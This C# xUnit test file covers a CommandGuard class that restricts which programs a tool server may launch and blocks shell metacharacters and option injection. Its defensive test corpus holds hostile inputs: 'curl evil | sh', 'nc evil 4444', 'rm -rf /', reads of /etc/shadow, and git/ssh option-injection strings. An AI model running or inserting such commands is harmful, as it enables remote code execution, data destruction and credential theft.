using System.Diagnostics;
using McpAnalyzers.Runtime;

namespace McpAnalyzers.Runtime.Tests;

/// <summary>CommandGuard: program allowlist, no shells, arguments as a list after "--", and a metacharacter corpus.</summary>
public sealed class CommandGuardTests
{
    private static readonly CommandGuard Guard = new("git", "echo", "/bin/echo");

    public static TheoryData<string> ShellPayloads()
    {
        var data = new TheoryData<string>();
        foreach (var payload in new[]
        {
            "x; rm -rf /", "x && curl evil | sh", "x || id", "$(id)", "`id`", "x | nc evil 4444", "x > /etc/passwd", "x < /etc/shadow",
            "a b", "a\tb", "\"quoted\"", "'quoted'", "x\\y", "${IFS}id", "x&calc", "%PATH%", "!history", "~root", "*", "file?.txt",
            "{a,b}", "[ab]", "x#comment", "x^y", "a=b", "a,b",
        })
        {
            data.Add(payload);
        }

        return data;
    }

    [Theory]
    [MemberData(nameof(ShellPayloads))]
    public void InlineArgument_RefusesShellMetacharacters(string payload)
        => Assert.Contains(Assert.Throws<CommandGuardException>(() => Guard.InlineArgument(payload)).Reason, new[] { CommandRefusal.Metacharacter, CommandRefusal.ControlCharacter });

    [Theory]
    [InlineData("--upload-pack=touch /tmp/pwned")]
    [InlineData("-oProxyCommand=id")]
    [InlineData("--output=/etc/passwd")]
    [InlineData("-")]
    public void Argument_RefusesOptions(string payload)
    {
        var exception = Assert.Throws<CommandGuardException>(() => Guard.Argument(payload));
        Assert.Equal(CommandRefusal.LeadingDash, exception.Reason);
        Assert.Contains("--", exception.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("a\0b")]
    [InlineData("a\u001b[31mb")]
    [InlineData("a\u0007b")]
    public void Argument_RefusesControlCharacters(string payload)
        => Assert.Equal(CommandRefusal.ControlCharacter, Assert.Throws<CommandGuardException>(() => Guard.Argument(payload)).Reason);

    [Theory]
    [InlineData("SELECT name\nFROM users\nWHERE id = 1")]
    [InlineData("line one\r\nline two\tcolumn")]
    public void Argument_AcceptsMultiLineText_ButAnArgumentsStringRefusesIt(string payload)
    {
        // a list element reaches the program as one argument, never through a shell
        Assert.Equal(payload, Guard.Argument(payload));
        Assert.Throws<CommandGuardException>(() => Guard.InlineArgument(payload));
        Assert.Throws<CommandGuardException>(() => Guard.Executable(payload));
    }

    [Theory]
    [InlineData("main")]
    [InlineData("feature/login-page")]
    [InlineData("v1.2.3")]
    public void Arguments_AcceptPlainValues(string value)
    {
        Assert.Equal(value, Guard.Argument(value));
        Assert.Equal(value, Guard.InlineArgument(value));
    }

    [Theory]
    [InlineData("bash")]
    [InlineData("/usr/bin/curl")]
    [InlineData("git ")]
    [InlineData("./git")]
    [InlineData("GIT")]
    [InlineData("")]
    public void Executable_RefusesWhatIsNotAllowlisted(string executable)
        => Assert.Throws<CommandGuardException>(() => Guard.Executable(executable));

    [Theory]
    [InlineData("sh")]
    [InlineData("/bin/bash")]
    [InlineData("cmd.exe")]
    [InlineData("pwsh")]
    [InlineData("python3.12")]
    [InlineData("env")]
    [InlineData("sudo")]
    public void Constructor_RefusesShellsAndInterpreters(string interpreter)
    {
        var exception = Assert.Throws<ArgumentException>(() => new CommandGuard(interpreter));
        Assert.Contains("interpreter", exception.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("awk")]
    [InlineData("mawk")]
    [InlineData("gawk")]
    [InlineData("original-awk")]
    [InlineData("/usr/bin/awk")]
    [InlineData("perl5.36.0")]
    [InlineData("php8.2")]
    [InlineData("php-cgi")]
    [InlineData("ruby3.1")]
    [InlineData("lua5.4")]
    [InlineData("node20")]
    [InlineData("python3.13t")]
    [InlineData("pythonw.exe")]
    [InlineData("tclsh")]
    [InlineData("wish8.6")]
    [InlineData("rbash")]
    [InlineData("jshell")]
    [InlineData("sed")]
    [InlineData("nice")]
    [InlineData("timeout")]
    [InlineData("setsid")]
    [InlineData("unshare")]
    [InlineData("xargs")]
    [InlineData("ssh")]
    [InlineData("stdbuf")]
    [InlineData("busybox")]
    [InlineData("npx")]
    [InlineData("build.bat")]
    [InlineData("C:\\tools\\deploy.cmd")]
    public void Constructor_RefusesInterpreterAndLauncherFamilies(string program)
    {
        var exception = Assert.Throws<ArgumentException>(() => new CommandGuard(program));
        Assert.Contains("interpreter", exception.Message, StringComparison.Ordinal);
        Assert.True(CommandGuard.IsInterpreter(program), program);
    }

    [Theory]
    [InlineData("git")]
    [InlineData("ssh-keygen")]
    [InlineData("grep")]
    [InlineData("tar")]
    [InlineData("ffmpeg")]
    public void IsInterpreter_IsFalseForOrdinaryPrograms(string program)
        => Assert.False(CommandGuard.IsInterpreter(program), program);

    [Theory]
    [InlineData("./git")]
    [InlineData("bin/git")]
    [InlineData("../echo")]
    [InlineData("tools\\git")]
    public void Constructor_RefusesRelativePaths(string program)
    {
        var exception = Assert.Throws<ArgumentException>(() => new CommandGuard(program));
        Assert.Contains("absolute path", exception.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Constructor_RefusesAProgramThatIsNotOnPath()
    {
        var exception = Assert.Throws<ArgumentException>(() => new CommandGuard("mcpanalyzers-no-such-program"));
        Assert.Contains("not found on PATH", exception.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void BareNames_AreResolvedThroughPathToAnAbsolutePath_AtConstruction()
    {
        var guard = new CommandGuard("echo");
        var resolved = guard.Executable("echo");
        Assert.True(Path.IsPathFullyQualified(resolved), resolved);
        Assert.Equal("echo", Path.GetFileName(resolved));
        Assert.Equal(resolved, guard.CreateStartInfo("echo", Array.Empty<string>(), Array.Empty<string>()).FileName);
        Assert.Equal(resolved, guard.Executable(resolved)); // the absolute path of an allowed program is that program
        Assert.Throws<CommandGuardException>(() => guard.Executable("./echo"));
    }

    [Fact]
    public void FromEnvironment_ExplainsAMissingVariable()
    {
        var exception = Assert.Throws<InvalidOperationException>(() => CommandGuard.FromEnvironment("MCPANALYZERS_TEST_UNSET_" + Guid.NewGuid().ToString("N")));
        Assert.Contains("is not set", exception.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task CreateStartInfo_RunsTheProgramWithOperandsAfterEndOfOptions_AndNoShell()
    {
        var info = Guard.CreateStartInfo("/bin/echo", new[] { "-n" }, new[] { "$(id)", "a;b" });
        Assert.False(info.UseShellExecute);
        Assert.Equal(new[] { "-n", "--", "$(id)", "a;b" }, info.ArgumentList);

        using var process = Process.Start(info)!;
        var output = await process.StandardOutput.ReadToEndAsync();
        await process.WaitForExitAsync();
        Assert.Equal("-- $(id) a;b", output); // echo prints its arguments literally: nothing was expanded
    }

    [Fact]
    public void CreateStartInfo_RefusesAnOperandThatIsAnOption()
        => Assert.Throws<CommandGuardException>(() => Guard.CreateStartInfo("git", new[] { "log" }, new[] { "--output=/tmp/x" }));
}

[CollectionDefinition(nameof(CurrentDirectoryCollection), DisableParallelization = true)]
public sealed class CurrentDirectoryCollection
{
}

/// <summary>Changes the process's current directory, so it runs alone.</summary>
[Collection(nameof(CurrentDirectoryCollection))]
public sealed class CommandGuardCurrentDirectoryTests
{
    [Fact]
    public async Task AProgramOfTheSameNameInTheCurrentDirectory_DoesNotRunInsteadOfTheOneOnPath()
    {
        if (OperatingSystem.IsWindows())
        {
            return;
        }

        var directory = Directory.CreateTempSubdirectory("commandguard-cwd-").FullName;
        var fake = Path.Combine(directory, "echo");
        File.WriteAllText(fake, "#!/bin/sh\nprintf hijacked\n");
        File.SetUnixFileMode(fake, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        var previous = Environment.CurrentDirectory;
        string output;
        try
        {
            Environment.CurrentDirectory = directory;
            var info = new CommandGuard("echo").CreateStartInfo("echo", Array.Empty<string>(), new[] { "hello" });
            using var process = Process.Start(info)!;
            output = await process.StandardOutput.ReadToEndAsync();
            await process.WaitForExitAsync();
        }
        finally
        {
            Environment.CurrentDirectory = previous;
            Directory.Delete(directory, recursive: true);
        }

        Assert.Equal("-- hello\n", output);
    }
}
